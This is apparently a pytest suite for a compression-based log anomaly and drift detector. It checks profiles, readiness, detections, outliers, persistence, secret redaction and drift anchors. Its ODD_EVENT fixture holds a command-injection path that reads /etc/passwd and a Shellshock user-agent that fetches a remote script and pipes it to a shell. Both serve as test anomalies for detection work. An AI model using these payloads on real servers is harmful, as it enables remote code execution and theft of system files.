"""The per-stream detector: readiness, outliers, reporting, determinism, persistence, drift."""

from __future__ import annotations

import json
import random
from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import pytest

from driftlock.local._compress import choose_compressor
from driftlock.local._serialize import redact_secrets
from driftlock.local.detector import (
    DRIFT_NCD_THRESHOLD,
    HISTORY_CAP,
    PROFILES,
    BatchResult,
    DetectorSettings,
    StreamDetector,
    _ShuffledSplits,
)
from tests.support.streams import clean_stream, incident_stream

BALANCED = PROFILES["balanced"]
SMALL = DetectorSettings(baseline_size=120, window_size=20, hop_size=5)
METRIC_KEYS = {
    "ncd",
    "p_value",
    "confidence_level",
    "baseline_compression_ratio",
    "window_compression_ratio",
    "baseline_entropy",
    "window_entropy",
    "entropy_change",
    "compression_ratio_change",
    "is_statistically_significant",
}
ODD_EVENT = {
    "ts": "2024-05-01T12:00:00Z",
    "method": "GET",
    "path": "/cgi-bin/;cat /etc/passwd;echo ${IFS}pwned",
    "status": 400,
    "user_agent": "() { :; }; /bin/bash -c 'curl http://198.51.100.7/x.sh | sh'",
}


def fixed_clock() -> datetime:
    return datetime(2024, 5, 1, 12, 0, tzinfo=UTC)


def detector(settings: DetectorSettings = BALANCED, seed: int = 0) -> StreamDetector:
    return StreamDetector(settings, seed=seed, clock=fixed_clock)


def run(
    target: StreamDetector, events: Sequence[dict[str, Any]], batch: int = 100
) -> list[BatchResult]:
    return [target.process(events[i : i + batch]) for i in range(0, len(events), batch)]


def reported(results: Sequence[BatchResult], batch: int = 100) -> list[int]:
    """Stream positions of every detection, in order."""
    return [n * batch + d.index for n, r in enumerate(results) for d in r.detections]


def log_events(n: int, seed: int = 0) -> list[dict[str, Any]]:
    return clean_stream("log", n_events=n, seed=seed).events


# --- settings, profiles and readiness --------------------------------------------------------


def test_profiles_follow_the_api() -> None:
    expected = {
        "sensitive": (200, 30, 0.20, 0.10),
        "balanced": (400, 50, 0.30, 0.05),
        "strict": (800, 100, 0.45, 0.01),
    }
    for name, (base, window, ncd, p) in expected.items():
        settings = PROFILES[name]
        assert (settings.baseline_size, settings.window_size) == (base, window)
        assert (settings.ncd_threshold, settings.p_value_threshold) == (ncd, p)
        assert settings.detection_min_events == base + window
    assert PROFILES["balanced"] == DetectorSettings()


@pytest.mark.parametrize(
    "changes",
    [
        {"baseline_size": 0},
        {"baseline_size": 10_001},
        {"window_size": 1001},
        {"hop_size": 0},
        {"ncd_threshold": 1.5},
        {"p_value_threshold": 0.0},
        {"permutation_count": 0},
        {"compressor": "brotli"},
        {"min_baseline_size": -1},
    ],
)
def test_invalid_settings_are_rejected(changes: dict[str, Any]) -> None:
    with pytest.raises(ValueError, match=r"must|unknown"):
        DetectorSettings(**changes)


@pytest.mark.parametrize("profile", sorted(PROFILES))
def test_readiness_counts_baseline_plus_window(profile: str) -> None:
    settings = PROFILES[profile]
    needed = settings.baseline_size + settings.window_size
    target = detector(settings)
    assert target.events_needed_for_detection() == needed
    assert not target.detection_ready()
    target.process(log_events(needed - 1))
    assert target.events_ingested == needed - 1
    assert target.events_needed_for_detection() == 1
    assert not target.detection_ready()
    target.process(log_events(1, seed=1))
    assert target.events_needed_for_detection() == 0
    assert target.detection_ready()


def test_readiness_follows_an_override_and_replaced_settings() -> None:
    target = detector(BALANCED)
    target.process(log_events(150))
    assert target.events_needed_for_detection() == 300
    assert target.events_needed_for_detection(SMALL) == 0
    assert target.detection_ready(SMALL)
    target.settings = PROFILES["sensitive"]
    assert target.events_needed_for_detection() == 80


def test_a_hop_longer_than_the_window_acts_as_the_window() -> None:
    settings = replace(SMALL, hop_size=500)
    assert settings.effective_hop == settings.window_size
    events = log_events(400)
    events[300] = ODD_EVENT
    assert 300 in reported(run(detector(settings), events))


def test_nothing_is_detected_before_readiness() -> None:
    target = detector(SMALL)
    events = log_events(SMALL.detection_min_events - 1)
    events[-1] = ODD_EVENT
    result = target.process(events)
    assert result.detections == []
    assert result.compression_algo == "zstd"


def test_an_override_applies_to_its_batch_only() -> None:
    target = detector(BALANCED)
    target.process(log_events(300))
    with_override = target.process([ODD_EVENT], SMALL)
    assert [d.index for d in with_override.detections] == [0]
    without = target.process([ODD_EVENT])
    assert without.detections == []  # balanced needs 450 events; the stream holds 302


# --- what gets reported --------------------------------------------------------------------


@pytest.mark.parametrize("batch", [1, 7, 100])
def test_a_single_odd_event_is_reported_once(batch: int) -> None:
    events = log_events(900)
    events[600] = ODD_EVENT
    results = run(detector(), events, batch)
    positions = reported(results, batch)
    assert positions == [600]
    detection = next(d for r in results for d in r.detections)
    assert detection.signal == "event_novelty"
    assert detection.why.startswith("event novelty: ")
    assert "bytes given the baseline vs typical" in detection.why


def test_detections_carry_the_api_metrics() -> None:
    events = log_events(700)
    events[650] = ODD_EVENT
    results = run(detector(), events)
    [detection] = [d for r in results for d in r.detections]
    metrics = detection.metrics
    assert set(metrics) == METRIC_KEYS
    assert 0.0 <= metrics["ncd"] <= 1.0
    assert 0.0 <= metrics["p_value"] <= BALANCED.p_value_threshold
    assert metrics["confidence_level"] == pytest.approx(1.0 - metrics["p_value"])
    assert metrics["is_statistically_significant"] is True
    assert metrics["baseline_compression_ratio"] > 1.0
    assert 0.0 < metrics["baseline_entropy"] <= 8.0


def test_a_burst_is_reported_and_no_event_twice() -> None:
    stream = incident_stream("log", 0, bursts=("ordinary_burst",), isolated_per_gap=0)
    results = run(detector(), stream.events)
    positions = reported(results)
    assert len(positions) == len(set(positions))
    [burst] = stream.bursts
    found = [p for p in positions if burst.start <= p < burst.stop]
    assert found
    signals = {d.signal for r in results for d in r.detections}
    assert "field_burst" in signals
    why = next(d.why for r in results for d in r.detections if d.signal == "field_burst")
    assert "status=404" in why


def test_a_repetitive_window_fires_the_compression_test() -> None:
    # One identical event repeated: every field value of it is common, so only the window's
    # compressibility gives it away.
    events = clean_stream("metric", n_events=900, seed=4).events
    stuck = dict(events[0])
    for i in range(700, 760):
        events[i] = stuck | {"ts": events[i]["ts"]}
    results = run(detector(), events)
    window_bursts = [d for r in results for d in r.detections if d.signal == "window_burst"]
    assert window_bursts
    assert "compresses" in window_bursts[0].why
    assert "better than shuffled splits" in window_bursts[0].why


# --- value outliers ------------------------------------------------------------------------


def test_value_outliers_follow_the_api_rule() -> None:
    rng = random.Random(3)
    events: list[dict[str, Any]] = [
        {"m": {"x": rng.gauss(10, 1)}, "ok": True, "arr": [1.0], "early": 1 if i != 5 else 99}
        for i in range(40)
    ]
    events += [{"m": {"x": 10.5}}, {"m": {"x": 30.0}, "ok": False, "arr": [1e9]}]
    target = detector(SMALL)
    result = target.process(events)
    # "early" reached 99 at its 6th sample: too few samples to judge then.
    assert [o["field_path"] for o in result.value_outliers] == ["m.x"]
    [outlier] = result.value_outliers
    xs = [e["m"]["x"] for e in events[:41]]
    mean = sum(xs) / len(xs)
    std = (sum((x - mean) ** 2 for x in xs) / (len(xs) - 1)) ** 0.5
    assert outlier["index"] == 41
    assert outlier["value"] == 30.0
    assert outlier["sample_count"] == 41  # checked before the value joins the stats
    assert outlier["expected_mean"] == pytest.approx(mean)
    assert outlier["std_dev"] == pytest.approx(std)
    assert outlier["z_score"] == pytest.approx((30.0 - mean) / std)


def test_value_outliers_are_reported_during_calibration() -> None:
    events = [{"v": 1.0 + (i % 2) * 0.1} for i in range(31)] + [{"v": 50}]
    result = detector(BALANCED).process(events)
    assert [o["index"] for o in result.value_outliers] == [31]


# --- determinism and persistence -----------------------------------------------------------


def test_same_events_give_the_same_output() -> None:
    events = incident_stream("log", 2).events[:1300]
    assert run(detector(seed=5), events) == run(detector(seed=5), events)


@pytest.mark.parametrize("split", [450, 1170])
def test_snapshot_and_restore_change_nothing(split: int) -> None:
    events = incident_stream("metric", 1).events[:1400]
    straight = detector(seed=9)
    expected = run(straight, events[:split]) + run(straight, events[split:])

    first = detector(seed=9)
    before = run(first, events[:split])
    saved = json.loads(json.dumps(first.snapshot()))
    second = StreamDetector.restore(saved, clock=fixed_clock)
    after = run(second, events[split:])

    assert before + after == expected
    assert second.snapshot() == straight.snapshot()
    assert second.events_ingested == len(events)


def test_restore_rejects_an_unknown_snapshot_version() -> None:
    data = detector().snapshot() | {"version": 99}
    with pytest.raises(ValueError, match="snapshot version"):
        StreamDetector.restore(data)


def test_secrets_are_not_kept() -> None:
    target = detector(SMALL)
    target.process([{"user": "ann", "password": "hunter2", "n": i} for i in range(200)])
    assert "hunter2" not in json.dumps(target.snapshot())


def test_secret_values_are_profiled_as_their_redaction() -> None:
    # The detector redacts while it profiles fields: the result must be that of processing
    # events redacted beforehand, secrets at any depth or in arrays included.
    rng = random.Random(3)
    secrets: list[Any] = ["s3cr3t", {"nested": 1}, [1, 2], None, 7]
    events = []
    for i in range(700):
        event: dict[str, Any] = {"type": rng.choice("abc"), "n": rng.randint(0, 40)}
        kind = i % 7
        if kind == 1:
            event["password"] = rng.choice(secrets)
        elif kind == 2:
            event["body"] = {"Token": "t", "inner": {"x-api-key": i, "k": rng.randint(0, 3)}}
        elif kind == 3:
            event["items"] = [{"secret": "s", "v": i % 3}, {"v": 2}]
        elif kind == 4:
            event["tags"] = ["a", "b"]
        elif kind == 5:
            event[7] = "not a string key"
        events.append(event)
    redacted = [dict(redact_secrets(event)) for event in events]
    plain, pre = detector(SMALL, seed=4), detector(SMALL, seed=4)
    assert run(plain, events) == run(pre, redacted)
    assert plain.snapshot() == pre.snapshot()


def test_equal_numbers_of_other_types_stay_apart_as_field_values() -> None:
    target = detector(SMALL)
    values: list[Any] = [1, 1.0, True, 0.0, -0.0, 2, 2.0, 10**80, 10**80 + 1, float("nan")]
    target.process([{"v": value} for value in values * 5])
    categories = target.snapshot()["fields"]["fields"]["v"]["categories"]
    assert categories == {
        "1": 5.0,
        "1.0": 5.0,
        "True": 5.0,
        "0.0": 5.0,
        "-0.0": 5.0,
        "2": 5.0,
        "2.0": 5.0,
        "<hex>": 10.0,  # both cut to the same 64 digits, which mask as a hex run
        "nan": 5.0,
    }


@pytest.mark.parametrize(
    ("n", "k"), [(450, 50), (230, 30), (900, 100), (1100, 100), (11000, 1000), (30, 30), (9, 0)]
)
def test_shuffled_splits_are_those_of_random_sample(n: int, k: int) -> None:
    for seed in range(20):
        reference = random.Random(seed)
        splits = _ShuffledSplits(random.Random(seed), n, k)
        for _ in range(6):
            assert splits.draw() == sorted(reference.sample(range(n), k))


def test_memory_is_bounded() -> None:
    target = detector(SMALL)
    total = HISTORY_CAP + 500
    events = [{"n": i % 7} for i in range(total)]
    run(target, events, 1000)
    snapshot = target.snapshot()
    assert target.events_ingested == total
    assert len(snapshot["history"]) == HISTORY_CAP
    assert len(snapshot["fields"]["recent"]) <= 1000


# --- compressors ---------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["zstd", "lz4", "gzip"])
def test_each_compressor_detects(name: str) -> None:
    settings = replace(BALANCED, compressor=name)
    events = log_events(700)
    events[600] = ODD_EVENT
    results = run(detector(settings), events)
    assert 600 in reported(results)
    assert {r.compression_algo for r in results} == {name}
    assert {r.fallback_from_algo for r in results} == {None}


@pytest.mark.parametrize("name", ["zlab", "openzl", "ZLAB"])
def test_unavailable_compressors_fall_back_to_zstd(name: str) -> None:
    result = detector(replace(SMALL, compressor=name)).process(log_events(10))
    assert result.compression_algo == "zstd"
    assert result.fallback_from_algo == name.lower()


@pytest.mark.parametrize("name", ["zstd", "lz4", "gzip"])
def test_a_dictionary_makes_similar_data_cheaper(name: str) -> None:
    compressor = choose_compressor(name).compressor
    events = [json.dumps(e).encode() for e in log_events(200)]
    baseline = b"\n".join(events[:150])
    coder = compressor.with_dictionary(baseline)
    for event in events[150:160]:
        assert coder.size(event) < compressor.size(event)


def test_unknown_compressor_names_are_rejected() -> None:
    with pytest.raises(ValueError, match="unknown compressor"):
        choose_compressor("brotli")


# --- drift anchor --------------------------------------------------------------------------


def test_the_anchor_is_taken_at_readiness_and_clean_traffic_does_not_drift() -> None:
    target = detector(seed=2)
    first = target.process(log_events(449))
    assert target.anchor is None
    assert first.drift is None
    results = run(target, log_events(1500, seed=3))
    anchor = target.anchor
    assert anchor is not None
    assert anchor.is_active
    assert anchor.event_count == BALANCED.baseline_size
    assert anchor.created_at == fixed_clock()
    assert anchor.compressor == "zstd"
    assert anchor.drift_ncd_threshold == DRIFT_NCD_THRESHOLD
    for result in results:
        assert result.drift is not None
        assert result.drift["anchor_id"] == anchor.id
        assert result.drift["drift_detected"] is False
        assert result.drift["drift_threshold"] == DRIFT_NCD_THRESHOLD
        assert result.drift["baseline_events"] == BALANCED.baseline_size
        assert result.drift["window_events"] == BALANCED.window_size
        assert result.drift["anchor_created_at"] == fixed_clock().isoformat()


def test_a_distribution_shift_drifts_and_a_reset_anchor_follows_it() -> None:
    target = detector(seed=2)
    run(target, log_events(600))
    metrics = clean_stream("metric", n_events=400, seed=1).events
    shifted = target.process(metrics[:100])
    assert shifted.drift is not None
    assert shifted.drift["drift_detected"] is True
    assert shifted.drift["drift_score"] >= DRIFT_NCD_THRESHOLD

    old_id = target.anchor.id if target.anchor else None
    anchor = target.reset_anchor(metrics[:300])
    assert anchor.id != old_id
    assert anchor.event_count == 300
    after = target.process(metrics[300:])
    assert after.drift is not None
    assert after.drift["anchor_id"] == anchor.id
    assert after.drift["drift_detected"] is False


def test_deleting_the_anchor_disables_drift_until_a_reset() -> None:
    target = detector(SMALL)
    target.process(log_events(300))
    assert target.anchor is not None
    target.delete_anchor()
    assert target.anchor is not None
    assert not target.anchor.is_active
    assert target.process(log_events(50)).drift is None
    assert not target.anchor.is_active  # no automatic replacement
    target.reset_anchor(log_events(100, seed=7))
    assert target.anchor.is_active
    assert target.process(log_events(10)).drift is not None


def test_anchor_ids_are_deterministic_per_seed() -> None:
    ids = []
    for _ in range(2):
        target = detector(SMALL, seed=11)
        target.process(log_events(200))
        assert target.anchor is not None
        ids.append(target.anchor.id)
    assert ids[0] == ids[1]
    other = detector(SMALL, seed=12)
    other.process(log_events(200))
    assert other.anchor is not None
    assert other.anchor.id != ids[0]


def test_reset_anchor_needs_events() -> None:
    with pytest.raises(ValueError, match="at least one event"):
        detector().reset_anchor([])
